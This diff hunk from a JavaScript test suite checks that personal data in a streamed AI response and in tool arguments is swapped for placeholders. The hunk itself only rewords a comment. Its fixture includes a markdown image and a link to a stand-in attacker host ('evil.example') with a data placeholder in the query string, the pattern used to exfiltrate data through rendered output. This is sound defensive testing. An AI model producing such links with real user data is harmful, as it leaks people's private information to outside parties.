@@ -172,7 +172,7 @@ describe("a stream is restored, cut anywhere", () => {
       const wanted = { to: "jan.novak@example.cz", note: 'say "hi" to Emily Carter', link: "https://evil.example/?q=[[NAME_1]]" };
       assert.deepEqual(seen, { text: "Dear Emily Carter, a[0] ![x](https://evil.example/?q=[[EMAIL_2]]) jan.novak@example.czdone", reasoning: "about Emily Carter", input: JSON.stringify(wanted) });
       assert.deepEqual(got, [wanted]);
-      // what the tool gave, and what it was called with, leave with the same placeholders
+      // the result of the tool, and its arguments, leave with the same placeholders
       const sent = JSON.stringify(asked[1].prompt);
       assert.ok(!PERSONAL.test(sent), sent);
       assert.ok(sent.includes("sent to [[EMAIL_2]]"), sent);
